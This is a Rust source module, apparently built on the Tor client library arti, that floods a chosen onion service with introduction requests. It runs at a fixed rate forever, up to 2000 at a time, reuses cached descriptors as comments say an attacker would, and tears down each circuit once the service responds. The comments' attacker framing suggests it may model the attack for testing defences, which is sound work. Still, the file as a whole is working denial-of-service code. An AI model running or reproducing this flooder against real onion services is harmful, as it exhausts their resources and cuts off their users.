//! Introductions, one after the other at a rate, each on circuits of its own.
//!
//! arti keeps a descriptor for each isolation. An attacker would fetch it once, so what was used is used
//! again, after its circuit was closed.

use std::fmt;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use tokio::sync::Semaphore;
use tokio::time::{interval, timeout, MissedTickBehavior};

use tor_proto::client::stream::ClientStreamCtrl;
use visit::{Circuits, Visitor};

/// Introductions under way at once; more than that are not begun.
const UNDER_WAY: usize = 2000;

/// An attacker waits no longer for one.
const PATIENCE: Duration = Duration::from_secs(20);

/// A flood of one onion service.
pub(crate) struct Flood(Arc<Shared>);

struct Shared {
    visitor: Visitor,
    host: String,
    begun: AtomicU64,
    met: AtomicU64,
    /// With a descriptor and without a circuit.
    idle: Mutex<Vec<Circuits>>,
}

impl Flood {
    pub(crate) fn new(visitor: Visitor, host: String) -> Self {
        Self(Arc::new(Shared {
            visitor,
            host,
            begun: AtomicU64::default(),
            met: AtomicU64::default(),
            idle: Mutex::default(),
        }))
    }

    /// Makes `rate` introductions a second, for ever.
    pub(crate) async fn run(&self, rate: u32) {
        let room = Arc::new(Semaphore::new(UNDER_WAY));
        let mut due = interval(Duration::from_secs(1) / rate.max(1));
        due.set_missed_tick_behavior(MissedTickBehavior::Burst);
        loop {
            due.tick().await;
            if let Ok(permit) = Arc::clone(&room).try_acquire_owned() {
                let shared = Arc::clone(&self.0);
                tokio::spawn(async move {
                    shared.visit().await;
                    drop(permit);
                });
            }
        }
    }
}

impl Shared {
    async fn visit(&self) {
        self.begun.fetch_add(1, Ordering::Relaxed);
        let token = self.idle.lock().ok().and_then(|mut idle| idle.pop());
        let token = token.unwrap_or_else(Circuits::new);
        let Ok(met) = timeout(PATIENCE, self.introduce(token)).await else {
            // arti goes on with it, so the token is not idle.
            return;
        };
        self.met.fetch_add(u64::from(met), Ordering::Relaxed);
        if let Ok(mut idle) = self.idle.lock() {
            idle.push(token);
        }
    }

    /// Whether the service met us. Leaves no circuit.
    async fn introduce(&self, token: Circuits) -> bool {
        let connected = self.visitor.connect(&self.host, token).await;
        let Ok(stream) = connected else {
            return false;
        };
        if let Some(tunnel) = stream.client_stream_ctrl().and_then(|it| it.tunnel()) {
            tunnel.terminate();
        }
        true
    }
}

impl fmt::Display for Flood {
    fn fmt(&self, out: &mut fmt::Formatter<'_>) -> fmt::Result {
        let begun = self.0.begun.load(Ordering::Relaxed);
        let met = self.0.met.load(Ordering::Relaxed);
        write!(out, "{begun} introductions begun, {met} met")
    }
}
